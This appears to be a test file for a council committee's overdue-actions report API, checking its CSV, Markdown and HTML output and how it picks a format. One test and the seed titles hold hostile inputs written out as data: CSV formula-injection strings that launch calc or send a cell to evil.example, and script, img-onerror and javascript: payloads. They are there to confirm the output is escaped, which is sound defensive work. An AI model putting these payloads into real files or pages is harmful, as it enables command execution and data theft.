import t from 'tap';
import { build, committee, meeting, type TestApp } from '../helper.js';

// The overdue report as CSV, Markdown and HTML, chosen by Accept or ?format=.

const A = '2024-07-15T18:30:00+01:00';
const B = '2024-09-02T18:30:00+01:00'; // agendaDespatchBy 2024-08-22
const AS_OF = '2024-08-23';

const TITLES = {
  tricky: 'Costs of "SEND" transport, by route <script>alert(1)</script> & more',
  plain: 'Update on the Ofsted action plan',
  soon: 'Youth centre | visit',
};

async function seed(api: TestApp) {
  const committeeId = await committee(api, { name: 'Children & Young People Scrutiny Committee' });
  const a = await meeting(api, committeeId, { startsAt: A, status: 'held' });
  const b = await meeting(api, committeeId, { startsAt: B, venue: 'Council Chamber, Town Hall' });
  const post = async (body: Record<string, unknown>) =>
    (await api.request({ method: 'POST', url: '/v1/actions', payload: { meetingId: a, kind: 'update', ...body } })).json().id as number;
  const tricky = await post({ title: TITLES.tricky, ownerText: 'Head of "Transport"' });
  const plain = await post({ title: TITLES.plain, dueDate: '2024-08-01' });
  const soon = await post({ title: TITLES.soon, dueDate: '2024-09-05' });
  // Not in the report at all: closed, and due much later.
  const done = await post({ title: 'Closed long ago' });
  await api.request({ method: 'PATCH', url: `/v1/actions/${done}`, payload: { status: 'responded', response: 'Done.' } });
  await post({ title: 'Due next year', dueDate: '2025-06-01' });
  const scan = await api.request({ method: 'POST', url: '/v1/scans/overdue', payload: { asOf: AS_OF } });
  if (scan.statusCode !== 200) throw new Error(scan.body);
  return { committeeId, b, tricky, plain, soon };
}

function get(api: TestApp, query: string, accept?: string) {
  return api.request({ method: 'GET', url: `/v1/reports/overdue?asOf=${AS_OF}${query}`, headers: accept ? { accept } : {} });
}

/** RFC 4180: quoted fields with doubled quotes, commas and newlines inside quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { field += '"'; i++; }
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') { row.push(field); field = ''; }
    else if (ch === '\n' || ch === '\r') {
      if (ch === '\r' && text[i + 1] === '\n') i++;
      row.push(field); rows.push(row); row = []; field = '';
    } else field += ch;
  }
  if (field !== '' || row.length > 0) { row.push(field); rows.push(row); }
  return rows;
}

t.test('CSV: a header and one row per reported action', async (t) => {
  const api = await build(t);
  const s = await seed(api);
  const res = await get(api, '&format=csv');
  t.equal(res.statusCode, 200);
  t.match(res.headers['content-type'], /^text\/csv/);
  const [header, ...rows] = parseCsv(res.body);
  // The agenda-pack document's columns (documents/model.ts CSV_COLUMNS), the tracker's too; among
  // them every column this CSV had before it was written from the document model.
  t.same(header, [
    'reference', 'table', 'action_id', 'raised_meeting_id', 'raised_on', 'minute', 'title', 'detail', 'owner', 'due_rule', 'due_date',
    'due_meeting_id', 'due_quarter', 'days_overdue', 'latest_update', 'latest_update_at', 'rag', 'status', 'times_flagged',
    'kind', 'section', 'committee', 'meeting_starts_at', 'agenda_despatch_by', 'as_of',
  ]);
  t.equal(rows.length, 3, 'two overdue, one due soon');
  const byId = new Map(rows.map((r) => [Number(r[header!.indexOf('action_id')]), Object.fromEntries(header!.map((h, i) => [h, r[i]]))]));
  t.same([...byId.keys()].sort(), [s.tricky, s.plain, s.soon].sort());
  t.match(byId.get(s.tricky), {
    reference: 'CYP (24/25) 01', as_of: AS_OF, section: 'overdue', committee: 'Children & Young People Scrutiny Committee', meeting_starts_at: B,
    agenda_despatch_by: '2024-08-22', title: TITLES.tricky, owner: 'Head of "Transport"', status: 'open',
    due_rule: 'next_meeting', due_date: '2024-08-22', days_overdue: '1', times_flagged: '1',
    kind: 'update', table: 'Overdue (2)', raised_on: '2024-07-15', rag: '', latest_update: '',
  });
  t.match(byId.get(s.plain), { section: 'overdue', due_rule: 'date', due_date: '2024-08-01', days_overdue: '22', times_flagged: '1' });
  t.match(byId.get(s.soon), { section: 'due_soon', due_date: '2024-09-05', days_overdue: '', title: TITLES.soon });
});

t.test('CSV and JSON carry the same actions', async (t) => {
  const api = await build(t);
  await seed(api);
  const json = (await get(api, '')).json();
  const [header, ...rows] = parseCsv((await get(api, '&format=csv')).body);
  const fromJson = json.meetings.flatMap((m: { overdue: { id: number }[]; dueSoon: { id: number }[] }) => [...m.overdue, ...m.dueSoon].map((a) => a.id));
  t.same(rows.map((r) => Number(r[header!.indexOf('action_id')])), fromJson);
});

t.test('Markdown: the agenda-pack document, a heading per committee and a table per section', async (t) => {
  const api = await build(t);
  await seed(api);
  const res = await get(api, '&format=md');
  t.equal(res.statusCode, 200);
  t.match(res.headers['content-type'], /^text\/markdown/);
  const lines = res.body.split('\n');
  t.ok(lines.includes('## Children & Young People Scrutiny Committee'), 'a heading per committee');
  t.ok(lines.some((l) => l.startsWith('Next meeting: Monday 2 September 2024, 6.30pm, Council Chamber, Town Hall (agenda despatch Thursday 22 August 2024)')), 'the meeting in words');
  const rowsOf = (heading: RegExp) => {
    const start = lines.findIndex((l) => heading.test(l));
    const table: string[] = [];
    for (let i = start + 1; i < lines.length && !lines[i]!.startsWith('#'); i++) if (lines[i]!.startsWith('|')) table.push(lines[i]!);
    return table;
  };
  const overdue = rowsOf(/^### Overdue \(2\)/);
  t.equal(overdue[0], '| Ref. | Raised at | Action | Owner | Due | Latest progress | RAG | Status | Times flagged |');
  t.match(overdue[1], /^\|(-+\|)+$/);
  t.equal(overdue.length, 4, 'header, rule, two rows');
  t.ok(overdue.some((l) => l.startsWith(`| CYP (24/25) 02 | Monday 15 July 2024 | ${TITLES.plain} |`) && l.includes('| By Thursday 1 August 2024: overdue by 22 days | No update yet | Not rated | Open | 1st meeting without an update |')));
  const soon = rowsOf(/^### Due soon \(1\)/);
  t.equal(soon.length, 3);
  t.ok(soon[2]!.includes('Youth centre \\| visit'), 'a pipe in a title is escaped, so the table keeps its columns');
  t.equal(soon[2]!.split(/(?<!\\)\|/).length, soon[0]!.split('|').length, 'same number of cells as the header');
});

t.test('hostile text is inert: no formula reaches a spreadsheet, no markup reaches Markdown', async (t) => {
  const api = await build(t);
  const committeeId = await committee(api, { name: '=cmd|\' /C calc\'!A0 # [x](http://evil)' });
  const a = await meeting(api, committeeId, { startsAt: A, status: 'held' });
  await meeting(api, committeeId, { startsAt: B });
  // OWASP's formula openers: = + - @, and a tab or carriage return before one.
  const hostile = [
    { title: '=HYPERLINK("http://evil.example/?"&A1,"Click for the figures")', ownerText: '+cmd|\' /C calc\'!A0' },
    { title: '-2+3+cmd|\' /C notepad\'!A1', ownerText: '@SUM(1+1)*cmd|\' /C calc\'!A0' },
    { title: '\t=1+1', ownerText: '\r=1+1' },
    { title: '**Bold** _em_ `code` [link](javascript:alert(1)) <img src=x onerror=alert(1)> ~~gone~~ !{x} # \\ | end', ownerText: '- [ ] list + item' },
  ];
  for (const body of hostile) {
    const res = await api.request({ method: 'POST', url: '/v1/actions', payload: { meetingId: a, kind: 'update', dueDate: '2024-08-01', ...body } });
    t.equal(res.statusCode, 201, res.body);
  }

  const [header, ...rows] = parseCsv((await get(api, '&format=csv')).body);
  const column = (name: string) => rows.map((r) => r[header!.indexOf(name)]!);
  t.same(column('title').sort(), hostile.map((h) => (/^[=+\-@\t\r]/.test(h.title) ? `'${h.title}` : h.title)).sort(), 'formula titles start with a quote, the rest as written');
  t.same(column('owner').sort(), hostile.map((h) => (/^[=+\-@\t\r]/.test(h.ownerText) ? `'${h.ownerText}` : h.ownerText)).sort());
  t.ok(column('committee').every((c) => c.startsWith("'=cmd")), 'committee name too');
  for (const cell of rows.flat()) t.notMatch(cell, /^[=+\-@\t\r]/, `no cell opens a formula: ${JSON.stringify(cell)}`);

  const md = (await get(api, '&format=md')).body;
  const active = /[\\`*_{}[\]<>#+\-!|~]/;
  const userText = [...hostile.flatMap((h) => [h.title, h.ownerText]), '=cmd|\' /C calc\'!A0 # [x](http://evil)'];
  for (const text of userText) {
    // Each active character behind a backslash, line breaks as spaces.
    const escaped = [...text.replace(/\r\n?|\n/g, ' ')].map((c) => (active.test(c) ? `\\${c}` : c)).join('');
    t.ok(md.includes(escaped), `escaped in Markdown: ${JSON.stringify(text)}`);
  }
  t.notMatch(md, /(?<!\\)<img/, 'no live HTML tag');
  t.notMatch(md, /(?<!\\)\]\(javascript:/, 'no live link');
  t.notMatch(md, /(?<!\\)\*\*Bold/, 'no emphasis');
  const row = md.split('\n').find((l) => l.includes('Bold'))!;
  t.equal(row.split(/(?<!\\)\|/).length, '| Ref. | Raised at | Action | Owner | Due | Latest progress | RAG | Status | Times flagged |'.split('|').length, 'the row keeps its columns');
});

t.test('HTML: a full, printable document with every title escaped', async (t) => {
  const api = await build(t);
  await seed(api);
  const res = await get(api, '&format=html');
  t.equal(res.statusCode, 200);
  t.match(res.headers['content-type'], /^text\/html/);
  const html = res.body;
  t.match(html, /^<!doctype html>/i);
  t.match(html, /<html lang="en-GB">[\s\S]*<head>[\s\S]*<meta charset="utf-8">[\s\S]*<title>Overdue actions report[^<]*<\/title>[\s\S]*<\/head>[\s\S]*<body>[\s\S]*<\/body>\s*<\/html>\s*$/);
  t.notMatch(html, /<script>/, 'no live script tag');
  t.ok(html.includes('Costs of &quot;SEND&quot; transport, by route &lt;script&gt;alert(1)&lt;/script&gt; &amp; more'), 'title escaped');
  t.ok(html.includes('Children &amp; Young People Scrutiny Committee'), 'committee name escaped');
  t.ok(html.includes('Head of &quot;Transport&quot;'), 'owner escaped');
  t.ok(html.includes('Monday 2 September 2024, 6.30pm, Council Chamber, Town Hall'), 'meeting in words, with its venue');
  t.match(html, /@page\{size:A4 landscape/);
  t.same(html.match(/<caption>[^<]*<\/caption>/g), ['<caption>Overdue (2)</caption>', '<caption>Due soon (1)</caption>', '<caption>RAG key</caption>'], 'overdue, due-soon and key tables');
  t.ok(html.includes(`<th scope="row">CYP (24/25) 02</th><td>Monday 15 July 2024</td><td>${TITLES.plain}</td>`));
  t.match(res.headers['content-security-policy'], /^default-src 'none'; style-src 'sha256-[A-Za-z0-9+/=]+'/);
});

t.test('the format comes from ?format=, else from Accept; JSON by default', async (t) => {
  const api = await build(t);
  await seed(api);
  const cases: [string, string | undefined, RegExp][] = [
    ['', undefined, /^application\/json/],
    ['', 'application/json', /^application\/json/],
    ['', '*/*', /^application\/json/],
    ['', 'text/csv', /^text\/csv/],
    ['', 'text/markdown', /^text\/markdown/],
    ['', 'text/html', /^text\/html/],
    ['', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8', /^text\/html/], // a browser
    ['', 'application/pdf, text/csv', /^text\/csv/],
    ['', 'text/csv;q=0.5, text/markdown', /^text\/markdown/],
    ['', 'text/html;q=0, */*', /^application\/json/],
    ['&format=csv', 'text/html', /^text\/csv/],
    ['&format=md', undefined, /^text\/markdown/],
    ['&format=html', 'application/json', /^text\/html/],
    ['&format=json', 'text/csv', /^application\/json/],
  ];
  for (const [query, accept, type] of cases) {
    const res = await get(api, query, accept);
    t.equal(res.statusCode, 200, `${query} ${accept}`);
    t.match(res.headers['content-type'], type, `${query || 'no format'} / Accept: ${accept ?? '(none)'}`);
    t.match(res.headers.vary, /accept/i);
  }
  const json = (await get(api, '&format=json')).json();
  t.equal(json.asOf, AS_OF);
});

t.test('an unsupported Accept is a 406 problem; an unknown ?format= a 400', async (t) => {
  const api = await build(t);
  await seed(api);
  for (const accept of ['application/pdf', 'image/png, application/xml', 'text/csv;q=0']) {
    const res = await get(api, '', accept);
    t.equal(res.statusCode, 406, accept);
    t.match(res.headers['content-type'], /application\/problem\+json/);
    t.equal(res.json().status, 406);
  }
  const pdf = await get(api, '&format=pdf');
  t.equal(pdf.statusCode, 400);
  t.equal(pdf.json().errors[0].pointer, '/querystring/format');
});

t.test('an empty report still renders in every format', async (t) => {
  const api = await build(t);
  const res = await get(api, '&format=csv');
  t.equal(res.statusCode, 200);
  t.equal(parseCsv(res.body).length, 1, 'just the header');
  t.match((await get(api, '&format=md')).body, /No committee has overdue or due\\-soon actions/);
  t.match((await get(api, '&format=html')).body, /<\/html>/);
  t.same((await get(api, '')).json(), { asOf: AS_OF, meetings: [] });
});
